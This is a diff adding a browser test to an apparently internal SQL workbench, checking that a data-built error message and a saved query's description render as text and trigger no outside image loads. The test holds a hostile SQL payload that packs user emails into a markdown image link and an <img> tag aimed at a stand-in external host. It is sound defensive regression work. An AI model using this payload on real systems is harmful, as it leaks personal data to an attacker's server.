@@ -158,3 +158,44 @@ def test_lint_findings_are_marked_in_the_editor_gutter(app_server, page):
     frame = page.frame_locator('iframe[title*="sql_editor"]')
     frame.locator(".ace_gutter-cell.ace_error").first.wait_for(timeout=30_000)
     assert frame.locator(".ace_gutter-cell.ace_error").first.inner_text().strip() == "3"
+
+
+EXFILTRATE = (
+    "SELECT error('![x](http://203.0.113.9/leak.png?d=' || "
+    "(SELECT string_agg(email, ',') FROM (SELECT email FROM raw.users LIMIT 3)) || ') <img src=http://203.0.113.9/i.png>')"
+)
+
+
+@pytest.mark.browser
+def test_a_hostile_error_message_is_shown_as_text_and_sends_nothing(app_server, page):
+    """Issue #12, finding 3: an error message built from the data is text, so no image loads from
+    elsewhere and no personal data leaves the machine, even for a user who may see PII."""
+    from portal.config import load_settings
+    from portal.identity import make_user
+    from portal.library import QueryStore, SavedQuery
+    from portal.library.share import share_sql
+
+    store = QueryStore(app_server.queries_dir, app_server.state_dir)
+    dana = make_user("dana", load_settings())
+    store.save(
+        SavedQuery(
+            "support/hostile_description",
+            "Hostile description",
+            "SELECT 1 AS one\n",
+            description="Look ![img](http://203.0.113.9/d.png) <img src=http://203.0.113.9/h.png>",
+        ),
+        dana,
+        None,
+    )
+    page.goto(app_server + "/workbench" + share_sql(EXFILTRATE))
+    wait_for_app(page)
+    page.get_by_role("button", name="Run", exact=True).click()
+    page.wait_for_selector("text=Result 1", timeout=30_000)
+    wait_for_app(page)
+    page.wait_for_function("() => document.body.innerText.includes('![x](http')", timeout=30_000)
+    assert page.locator("img[src*='203.0.113.9']").count() == 0
+    page.goto(app_server + "/library?q=support/hostile_description")
+    wait_for_app(page)
+    page.wait_for_function("() => document.body.innerText.includes('![img](http')", timeout=30_000)
+    assert page.locator("img[src*='203.0.113.9']").count() == 0
+    assert page.external_requests == []
